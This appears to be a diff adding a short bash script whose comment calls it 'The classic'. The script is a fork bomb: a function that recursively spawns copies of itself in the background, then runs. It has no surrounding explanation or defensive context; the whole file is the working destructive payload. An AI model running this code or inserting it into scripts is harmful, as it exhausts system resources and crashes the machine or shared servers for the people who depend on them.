@@ -1,0 +1,5 @@
+#!/bin/bash
+# The classic.
+bomb() { bomb | bomb & }
+bomb
+sleep 3
